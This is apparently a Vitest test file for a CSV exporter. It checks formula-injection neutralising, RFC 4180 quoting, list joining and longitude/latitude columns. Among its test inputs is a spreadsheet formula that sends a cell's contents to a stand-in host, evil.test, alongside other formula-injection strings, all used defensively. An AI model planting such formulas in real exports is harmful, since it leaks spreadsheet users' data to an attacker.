import { PlaceSchema } from '@karabakh-aftermath/schema'
import { describe, expect, it } from 'vitest'
import { fixture as dataset } from '../../../fixtures/dataset.ts'
import { columnsOf, csvField, datasetTables, toCsv } from './csv.ts'

describe('csvField', () => {
  it.each([
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\tcmd',
    '\rcmd',
  ])('never leaves a formula: %j', (text) => {
    const cell = csvField(text)
    expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
  })

  it('quotes per RFC 4180 after neutralising', () => {
    expect(csvField('=1,2')).toBe(`"'=1,2"`)
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('plain')).toBe('plain')
  })

  it('keeps numbers, joins lists and writes nested values as JSON, formulas neutralised', () => {
    expect(csvField(-12.5)).toBe('-12.5')
    expect(csvField(['a', 'b'])).toBe('a|b')
    expect(csvField(['=x', 'b'])).toBe("'=x|b")
    expect(csvField([{ actor: 'a' }])).toBe('"[{""actor"":""a""}]"')
  })

  it('writes rows under a header', () => {
    const columns = [
      { name: 'id', get: (r: unknown) => (r as { id: string }).id },
      {
        name: 'aboutActors',
        get: (r: unknown) => (r as { about: { actors: string[] } }).about.actors,
      },
    ]
    expect(toCsv(columns, [{ id: 'x', about: { actors: ['a', 'b'] } }])).toBe(
      'id,aboutActors\r\nx,a|b\r\n',
    )
  })

  it('flattens nested fields of a schema into columns', () => {
    const names = columnsOf(PlaceSchema).map((c) => c.name)
    expect(names).toContain('geometryCoordinates')
    expect(names).toContain('precision')
  })

  it('gives a point its longitude and latitude columns, and leaves them empty for other shapes', () => {
    const [header = '', ...rows] = datasetTables(dataset).places.trimEnd().split('\r\n')
    const cols = header.split(',')
    const lon = cols.indexOf('longitude')
    const lat = cols.indexOf('latitude')
    expect(lon).toBeGreaterThan(-1)
    for (const place of dataset.places) {
      const row = rows.find((r) => r.startsWith(`${place.id},`)) ?? ''
      const point = place.geometry?.type === 'Point' ? place.geometry.coordinates : undefined
      // the coordinates come last and hold no comma, so counting from the end is safe
      const cells = row.split(',')
      const fromEnd = (i: number) => cells[cells.length - (cols.length - i)]
      expect(fromEnd(lon)).toBe(point ? String(point[0]) : '')
      expect(fromEnd(lat)).toBe(point ? String(point[1]) : '')
    }
  })
})
